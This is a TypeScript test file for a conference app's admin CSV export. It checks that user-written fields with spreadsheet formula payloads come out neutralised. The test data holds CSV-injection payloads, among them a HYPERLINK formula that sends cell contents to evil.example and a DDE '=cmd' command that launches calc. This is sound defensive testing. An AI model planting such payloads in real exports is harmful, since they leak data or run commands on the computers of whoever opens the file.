import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { papers } from '../db/schema/index.ts';
import { createSession } from '../modules/sessions/sessions.service.ts';
import { createUser } from '../modules/users/users.service.ts';
import { createTestPaper, createTestUser, type TestUser } from '../test/factories.ts';
import { normalizePaymentId } from '@shared/domain/payment.ts';
import { API, createTestApp, type TestApp, sessionCookieOf, uniqueEmail } from '../test/test-app.ts';

/** RFC 4180: quoted cells, doubled quotes, line breaks inside quotes; CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell || record.length) records.push([...record, cell]);
  return records;
}

/** What a spreadsheet runs when a cell starts with it (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('the records export neutralises formulas in everything authors can write', () => {
  let t: TestApp;
  let admin: TestUser;
  /** Every text an author controls that reaches the export, as stored. */
  const written: string[] = [];
  const paymentIds: string[] = [];

  beforeAll(async () => {
    t = await createTestApp();
    admin = await createTestUser(t.app, { role: 'admin' });
    const asAdmin = { cookie: admin.cookie };
    // Through the API: the forms trim, so these start with the formula character itself.
    const throughApi = [
      {
        username: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        email: `+cmd.${Date.now()}@example.org`,
        title: '=1+1',
        paymentId: "=cmd|' /C calc'!A0",
      },
      { username: '+SUM(1,2)', email: `-2.${Date.now()}@example.org`, title: '-2+3', paymentId: '@SUM(A1:A9)' },
      {
        username: '@import',
        email: uniqueEmail('at'),
        title: '+"quoted, with a comma"\nand a line break',
        paymentId: '-1',
      },
    ];
    for (const input of throughApi) {
      const res = await t.app.inject({
        method: 'POST',
        url: `${API}/auth/register`,
        payload: { username: input.username, email: input.email, password: 'correct horse battery' },
      });
      expect(res.statusCode, res.body).toBe(201);
      const cookie = sessionCookieOf(res);
      const paper = await createTestPaper(t.app, { cookie } as TestUser, { title: input.title });
      await t.app.inject({
        method: 'PUT',
        url: `${API}/admin/papers/${paper._id}/status`,
        headers: asAdmin,
        payload: { status: 'abstract_accepted' },
      });
      const paid = await t.app.inject({
        method: 'PATCH',
        url: `${API}/papers/${paper._id}/payment`,
        headers: { cookie },
        payload: { paymentId: input.paymentId },
      });
      expect(paid.statusCode, paid.body).toBe(200);
      // Payment IDs are stored in one form: no spaces, upper case.
      const storedPaymentId = normalizePaymentId(input.paymentId);
      // A title is one line: a pasted line break is stored as a space.
      written.push(input.username, input.email.toLowerCase(), paper.title, storedPaymentId);
      paymentIds.push(storedPaymentId);
    }
    // Tab and carriage return cannot lead a trimmed form value; older rows or imports could hold them.
    const raw = await createUser(t.app.ctx, {
      username: '\t=2*3',
      email: uniqueEmail('tab'),
      password: 'correct horse battery',
    });
    const { token } = await createSession(t.app.ctx, raw.id);
    const rawPaper = await createTestPaper(t.app, { cookie: `ictacem_session=${token}` } as TestUser);
    await t.app.ctx.db.update(papers).set({ title: '\r=cmd', paymentId: '\t@x' }).where(eq(papers.id, rawPaper._id));
    written.push('\t=2*3', '\r=cmd', '\t@x');
    paymentIds.push('\t@x');
  });
  afterAll(() => t.close());

  it.each(['financial', 'evaluation'])(
    'exports the %s table with every formula cell prefixed and the columns intact',
    async (view) => {
      const res = await t.app.inject({
        method: 'GET',
        url: `${API}/admin/records/export?view=${view}`,
        headers: { cookie: admin.cookie },
      });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="ictacem2025-${view}.csv"`);
      const [header, ...rows] = parseCsv(res.body);
      // The four authors' papers, and the admin, an account without a paper.
      expect(rows).toHaveLength(5);
      for (const row of rows) {
        expect(row).toHaveLength(header!.length);
        for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
      }
      const cells = rows.flat();
      // The evaluation table has no payment column.
      const expectedHere = written.filter((text) => view === 'financial' || !paymentIds.includes(text));
      for (const text of expectedHere) {
        expect(cells, JSON.stringify(text)).toContain(FORMULA_START.test(text) ? `'${text}` : text);
      }
    },
  );

  it('neutralises the same cells when the export is searched and filtered', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `${API}/admin/records/export?view=financial&filter=paid&search=${encodeURIComponent('=')}`,
      headers: { cookie: admin.cookie },
    });
    expect(res.statusCode).toBe(200);
    const [, ...rows] = parseCsv(res.body);
    expect(rows.length).toBeGreaterThan(0);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });
});
